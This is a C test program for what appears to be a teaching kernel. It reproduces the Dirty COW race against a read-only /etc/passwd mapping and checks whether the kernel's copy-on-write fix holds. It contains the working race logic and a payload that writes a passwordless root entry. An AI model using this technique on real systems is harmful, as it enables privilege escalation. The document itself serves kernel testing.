#include <stdio.h>
#include <string.h>
#include <ulib.h>

/*
 * Dirty COW (CVE-2016-5195), the real mechanism, against this kernel.
 *
 * /etc/passwd is a read-only file. We map it PROT_READ + MAP_PRIVATE,
 * then race two threads:
 *   - the writer force-writes into the mapping with memwrite() (our
 *     /proc/self/mem): the kernel must break COW and write a private copy;
 *   - the madviser throws the mapping's pages away with
 *     madvise(MADV_DONTNEED) (and reads the page back in), over and over.
 * If the kernel's get-user-pages loop lets the madviser in at the wrong
 * moment, the forced write lands in the file's own page: the file is
 * CORRUPTED. The boot argument dirtycow= picks the kernel's rules.
 *
 * On more than one hart the two threads run at once: with the boot
 * argument `parallel` nothing else opens the window (no gup_resched, no
 * short time slice), and we count the madvise rounds that ran on another
 * hart while a forced write was in the kernel.
 *
 * When the file stays intact we also prove the forced write works (it
 * really lands in our private copy) and that a plain store into the
 * read-only mapping is still refused.
 */

#define PATH "/etc/passwd"
#define PGSIZE 4096
#define MIN_TRIES 10000      /* forced writes, each with a madvise round between */
#define TIMER_MSEC 2000      /* how long to race when only the timer opens the window */
#define PARALLEL_ROUNDS 100  /* with `parallel`: madvise rounds on another hart mid-write ... */
#define PARALLEL_MAX_MSEC 10000  /* ... unless the harts have not raced that often by then */

static const char payload[] = "root::0:0:dirty cow was here:/root:/bin/sh\n";

static char original[PGSIZE];      /* the file as it was */
static size_t file_size;
static volatile char *map;         /* PROT_READ, MAP_PRIVATE view of the file */
static volatile int stop;          /* the writer tells the madviser to finish */
static volatile int rounds;        /* madvise rounds done so far */
static volatile int writing;       /* the writer is inside memwrite ... */
static volatile int writer_hart;   /* ... on this hart */
static volatile int parallel_rounds;   /* rounds done meanwhile on another hart */
static unsigned int race_msec;     /* minimum race time (see read_cmdline) */
static bool parallel;              /* boot argument `parallel` */
static int min_tries;              /* boot argument tries=N, else MIN_TRIES */

/* Read the whole (one-page) file into buf; returns its size. */
static size_t read_file(char *buf) {
    int fd = open(PATH, O_RDONLY);
    assert(fd >= 0);
    int n = read(fd, buf, PGSIZE);
    assert(n > 0);
    close(fd);
    return n;
}

/* Is the file's content (the page cache, not our mapping) unchanged? */
static bool file_intact(void) {
    static char now[PGSIZE];
    return read_file(now) == file_size && memcmp(now, original, file_size) == 0;
}

/* The madviser thread: drop the private copy, touch the page, let the writer run. */
static int madviser(void *arg) {
    (void)arg;
    while (!stop) {
        assert(madvise((void *)map, PGSIZE, MADV_DONTNEED) == 0);
        (void)map[0];
        rounds++;
        if (writing && getcpu() != writer_hart) {
            parallel_rounds++;
        }
        yield();
    }
    return 0;
}

/*
 * Settings from the boot arguments. Is the race left to the timer?
 * With gup_resched=K the kernel itself lets the madviser into retry K
 * of every forced write, and with `parallel` the madviser runs on
 * another hart; otherwise only a timer tick at the right moment lets it
 * in, so we race for a few seconds as well as a number of tries.
 * tries=N sets that number. In parallel, how often the madviser gets in
 * depends on how the host schedules QEMU's hart threads: on a loaded
 * host one hart may barely run. So we also race until PARALLEL_ROUNDS
 * madvise rounds have run on another hart during a forced write.
 */
static void read_cmdline(void) {
    parallel = bootarg_has("parallel");
    race_msec = bootarg_has("gup_resched") || parallel ? 0 : TIMER_MSEC;
    min_tries = MAX(bootarg_long("tries", MIN_TRIES), 1);
}

/* Enough racing: min_tries forced writes, race_msec gone by, and (in parallel) real races. */
static bool raced_enough(int tries, unsigned int start) {
    unsigned int msec = gettime_msec() - start;
    if (tries < min_tries || msec < race_msec) {
        return false;
    }
    return !parallel || parallel_rounds >= PARALLEL_ROUNDS || msec >= PARALLEL_MAX_MSEC;
}

/*
 * Race forced writes against the madviser; returns the try that
 * corrupted, 0 if none did, or -1 if a forced write failed (out of
 * memory, say), which ends the race too.
 */
static int race(int *tries) {
    unsigned int start = gettime_msec();
    for (*tries = 1; !raced_enough(*tries, start); (*tries)++) {
        writer_hart = getcpu();
        writing = 1;
        int n = memwrite((void *)map, payload, sizeof(payload) - 1);
        writing = 0;
        if (n != (int)sizeof(payload) - 1) {
            cprintf("dirtycow: memwrite failed (%e) at try %d\n", n, *tries);
            return -1;
        }
        if (!file_intact()) {
            return *tries;
        }
        yield();                    /* let the madviser have its round */
    }
    return 0;
}

/* Without a race, a forced write must land in the private copy, and only there. */
static void check_private_copy(void) {
    assert(memwrite((void *)map, payload, sizeof(payload) - 1) == (int)sizeof(payload) - 1);
    assert(memcmp((const char *)map, payload, sizeof(payload) - 1) == 0);
    assert(file_intact());
    cprintf("the forced write landed in the private copy: \"%.9s...\"\n", (const char *)map);
}

/* A plain store into the PROT_READ mapping kills the writer. */
static void check_plain_store(void) {
    int pid = fork(), code;
    if (pid == 0) {
        map[0] = 'X';
        exit(0);
    }
    assert(pid > 0 && waitpid(pid, &code) == 0);
    assert(code == -9);
    cprintf("a plain store into the read-only mapping was refused.\n");
}

int main(void) {
    file_size = read_file(original);
    assert(memcmp(original, "root:x:0:0:", 11) == 0);
    int fd = open(PATH, O_RDONLY);
    assert(fd >= 0);
    map = mmap(NULL, file_size, PROT_READ, MAP_PRIVATE, fd, 0);
    assert(map != MAP_FAILED);
    read_cmdline();
    cprintf("dirtycow: racing forced writes against madvise(MADV_DONTNEED) on %s (%s)\n", PATH,
            race_msec > 0 ? "timer-driven" : parallel ? "parallel"
                                                                     : "forced reschedule");

    int tid = thread_create(madviser, NULL), tries, code;
    assert(tid > 0);
    int corrupted_at = race(&tries);
    stop = 1;
    assert(waitpid(tid, &code) == 0 && code == 0);
    if (corrupted_at < 0) {
        exit(1);
    }
    if (parallel) {
        cprintf("dirtycow: %d of %d madvise rounds ran on another hart during a forced write\n",
                parallel_rounds, rounds);
    }

    if (corrupted_at > 0) {
        static char now[PGSIZE];
        read_file(now);
        cprintf("CORRUPTED after %d tries: %s now begins \"%.20s\"\n", corrupted_at, PATH, now);
        bool fix2016 = bootarg_has("dirtycow=fix2016");    /* which falls to hugedirty */
        if (!bootarg_has("dirtycow=vulnerable") && !(fix2016 && bootarg_has("hugedirty"))) {
            cprintf("dirtycow: FAIL: under the %s rule a forced write reached the file: a lookup "
                    "wrote through a read-only PTE that mapped the file's page, not its private "
                    "copy\n", fix2016 ? "2016" : "2022");
        }
        return 0;
    }
    cprintf("intact after %d tries (%d madvise rounds): %s is unchanged\n", tries, rounds, PATH);
    check_private_copy();
    check_plain_store();
    cprintf("dirtycow: the file is safe.\n");
    return 0;
}
